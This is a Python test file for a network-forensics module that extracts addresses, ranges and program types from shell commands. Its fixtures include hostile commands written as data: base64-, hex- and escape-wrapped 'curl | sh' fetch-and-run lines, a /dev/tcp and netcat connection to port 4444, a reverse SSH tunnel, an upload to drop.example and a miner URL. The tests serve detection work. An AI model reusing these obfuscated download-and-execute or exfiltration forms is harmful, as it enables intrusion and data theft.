"""What commands say about the network, plainly and wrapped."""

from __future__ import annotations

import base64

import polars as pl
import pytest

from fwforensics.analysis.commands import key_of, layers, meanings, understand


def _b64(text: str, encoding: str = "utf-8") -> str:
    return base64.b64encode(text.encode(encoding)).decode()


@pytest.mark.parametrize(
    ("command", "address"),
    [
        ("curl http://203.0.113.9/x", "203.0.113.9"),
        ("curl http://[2001:DB8::0009]:8080/x", "2001:db8::9"),
        ("ssh -p 2222 root@203.0.113.9", "203.0.113.9"),
        ("bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444'", "203.0.113.9"),
        (f"echo {_b64('curl http://203.0.113.9/x')} | base64 -d | sh", "203.0.113.9"),
        (f"powershell -enc {_b64('iwr http://203.0.113.9/x', 'utf-16-le')}", "203.0.113.9"),
        (f"python3 -c \"exec(__import__('base64').b64decode('{_b64('connect 203.0.113.9 now')}'))\"", "203.0.113.9"),
        ("echo 6375726c203230332e302e3131332e39 | xxd -r -p | sh", "203.0.113.9"),
        (r"printf '\x63\x75\x72\x6c\x20\x32\x30\x33.0.113.9' | sh", "203.0.113.9"),
        ("curl %68ttp%3A%2F%2F203.0.113.9%2F", "203.0.113.9"),
        (f"echo {_b64('echo ' + _b64('nc 203.0.113.9 99'))}", "203.0.113.9"),
        ("cat > run.sh <<'EOT'\nnc 203.0.113.9 4444\nEOT", "203.0.113.9"),
    ],
)
def test_a_destination_is_found_however_it_is_wrapped(command: str, address: str) -> None:
    """The same address, plain, in brackets, encoded, encoded twice, in a heredoc."""
    assert address in understand(command).ips


@pytest.mark.parametrize("command", ["ls -la 1.2.3", "echo 999.1.2.3", "pip install torch==2.1.0.1.3", "date 12:30:45"])
def test_numbers_that_are_no_addresses_name_nothing(command: str) -> None:
    """Versions, times and impossible octets."""
    meaning = understand(command)
    assert not meaning.ips
    assert not meaning.ranges


def test_names_are_hosts_and_not_files() -> None:
    """`train.py` is a file, `pool.example` a host."""
    meaning = understand("python train.py --data a.json --url stratum+tcp://pool.example:3333")
    assert meaning.names == {"pool.example"}
    assert meaning.ports == {3333}
    assert "miner" in meaning.programs


@pytest.mark.parametrize(
    ("command", "first", "last"),
    [
        ("nmap -sT 10.30.0.0/24", "0a1e0000", "0a1e00ff"),
        ("nmap 10.30.0.10-14", "0a1e000a", "0a1e000e"),
        ("nmap 10.30.0.10-10.30.1.2", "0a1e000a", "0a1e0102"),
        ("for i in 1 2; do nc -z 10.30.0.$i 22; done", "0a1e0000", "0a1e00ff"),
    ],
)
def test_ranges_that_a_command_names(command: str, first: str, last: str) -> None:
    """Networks, ranges in two spellings, and a loop over the last number."""
    assert understand(command).ranges == {("00000000000000000000ffff" + first, "00000000000000000000ffff" + last)}


@pytest.mark.parametrize(
    ("command", "programs"),
    [
        ("ssh -f -N -R 2222:localhost:22 u@relay.example", {"tunnel", "ssh"}),
        ("ssh u@relay.example ls", {"ssh"}),
        ("nc -zv 10.0.0.5 22", {"scanner", "shell"}),
        ("curl -T results.bin https://drop.example/u", {"copy", "fetch"}),
        ("pytest -q tests/test_ssh_config.py", set()),
        ("grep -r nmapper .", {"scanner"}),
    ],
)
def test_programs(command: str, programs: set[str]) -> None:
    """What runs, by its name as a word or by its options; a name that begins like one counts, and that is known."""
    assert understand(command).programs == programs


@pytest.mark.parametrize("command", ["nohup ./a &", "setsid x", "sleep 5 & echo done", "screen -dmS x ./a", "./a &"])
def test_what_leaves_a_process_behind(command: str) -> None:
    """Each way of sending something to the background."""
    assert understand(command).background


@pytest.mark.parametrize("command", ["make 2>&1", "a && b", "cat x >& y", "curl 'http://a.example/?x=1&y=2'"])
def test_what_does_not(command: str) -> None:
    """Ampersands that are redirections, conjunctions or parts of a URL."""
    assert not understand(command).background


def test_hostile_commands_end() -> None:
    """A bomb of wrappings, a megabyte of digits and binary rubbish are read in bounded time without an error."""
    bomb = "curl http://203.0.113.9/"
    for _ in range(8):
        bomb = _b64(bomb)
    assert len(layers(bomb)) <= 1 + 4 * 32
    understand("1." * 500_000)
    understand("A" * 1_000_000)
    understand("\x00\ud800%zz\\x" * 1000)


def test_meanings_are_of_distinct_commands_that_say_something() -> None:
    """One row a command; commands without a meaning have none."""
    given = pl.Series(["ls", "curl http://203.0.113.9/", "curl http://203.0.113.9/", None])
    frame = meanings(given)
    assert frame["command"].to_list() == ["curl http://203.0.113.9/"]
    assert frame["programs"].to_list() == [["fetch"]]


def test_keys_are_those_of_the_address_table() -> None:
    """IPv4 lies within ::ffff:0:0/96."""
    import ipaddress

    assert key_of(ipaddress.ip_address("10.0.0.1")) == "00000000000000000000ffff0a000001"
